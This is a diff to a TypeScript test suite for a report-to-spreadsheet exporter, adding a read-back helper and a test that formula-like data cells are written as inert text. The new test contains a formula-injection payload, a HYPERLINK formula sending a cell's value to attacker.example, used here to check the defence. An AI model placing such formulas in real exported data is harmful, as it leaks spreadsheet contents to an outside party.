@@ -47,6 +47,18 @@ function sheetRows(xml: string, sharedStrings: string[]) {
   return rows;
 }
 
+/** The written file, its sheet's XML and its rows as a spreadsheet reads them. */
+async function readBack(blob: Blob) {
+  const files = unzipSync(await bytesOf(blob));
+  const shared = files['xl/sharedStrings.xml']
+    ? [...strFromU8(files['xl/sharedStrings.xml']).matchAll(/<si>.*?<t[^>]*>(.*?)<\/t>.*?<\/si>/gs)].map(([, t]) =>
+        xmlText(t ?? ''),
+      )
+    : [];
+  const sheetXml = strFromU8(files['xl/worksheets/sheet1.xml'] as Uint8Array);
+  return { files, sheetXml, written: sheetRows(sheetXml, shared) };
+}
+
 describe('reportToXls', () => {
   it('lays the report out as rows: the cover, tiles as label/value, charts as figures, tables with their header', () => {
     const rows = xlsRows(sampleReport(2)).map((row) => row.cells);
@@ -97,17 +109,9 @@ describe('reportToXls', () => {
 
   it('writes one sheet "Report" whose rows are the report rows, numbers as numbers and the header bold', async () => {
     const report = sampleReport(300);
-    const blob = await reportToXls(report);
-    const files = unzipSync(await bytesOf(blob));
+    const { files, sheetXml, written } = await readBack(await reportToXls(report));
     expect(strFromU8(files['xl/workbook.xml'] as Uint8Array)).toMatch(new RegExp(`<sheet name="${SHEET_NAME}"`));
     expect(Object.keys(files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))).toHaveLength(1);
-    const shared = files['xl/sharedStrings.xml']
-      ? [...strFromU8(files['xl/sharedStrings.xml']).matchAll(/<si>.*?<t[^>]*>(.*?)<\/t>.*?<\/si>/gs)].map(([, t]) =>
-          xmlText(t ?? ''),
-        )
-      : [];
-    const sheetXml = strFromU8(files['xl/worksheets/sheet1.xml'] as Uint8Array);
-    const written = sheetRows(sheetXml, shared);
     expect(sheetXml).toContain(
       '<f>HYPERLINK(&quot;https://service.example/alerts/1/details&quot;,&quot;View&quot;)</f>',
     );
@@ -135,5 +139,25 @@ describe('reportToXls', () => {
     const isBold = (style: number | undefined) => /<b\/>|<b /.test(fonts[Number(xfs[style ?? 0]?.[1])]?.[0] ?? '');
     expect(header?.styles.every(isBold)).toBe(true);
     expect(body?.styles.some(isBold)).toBe(false);
+  });
+
+  it('writes a text from the data that a spreadsheet would run as a formula as text; numbers and its own links stay', async () => {
+    const injected = '=HYPERLINK("http://attacker.example/?x="&A2,"Details")';
+    const report = sampleReport(3);
+    const table = report.sections.find((section) => section.kind === 'table');
+    if (table?.kind !== 'table') throw new Error('the sample has a table');
+    table.rows[0] = { ...table.rows[0], description: injected, remarks: '@SUM(A1:A9)' };
+    report.sections.unshift({ kind: 'tiles', tiles: [{ label: 'Change', value: -5 }] });
+
+    const { sheetXml, written } = await readBack(await reportToXls(report));
+    const row = written.find((candidate) => candidate.cells[0] === 1)?.cells;
+    expect(row?.[2]).toBe(`'${injected}`);
+    expect(row?.[5]).toBe("'@SUM(A1:A9)");
+    expect(row?.[4]).toBe('View');
+    expect(sheetXml).toContain(
+      '<f>HYPERLINK(&quot;https://service.example/alerts/1/details&quot;,&quot;View&quot;)</f>',
+    );
+    expect(sheetXml).not.toContain('attacker.example/?x=&quot;&amp;A2,&quot;Details&quot;)</f>');
+    expect(written.find((candidate) => candidate.cells[0] === 'Change')?.cells).toEqual(['Change', -5]);
   });
 });
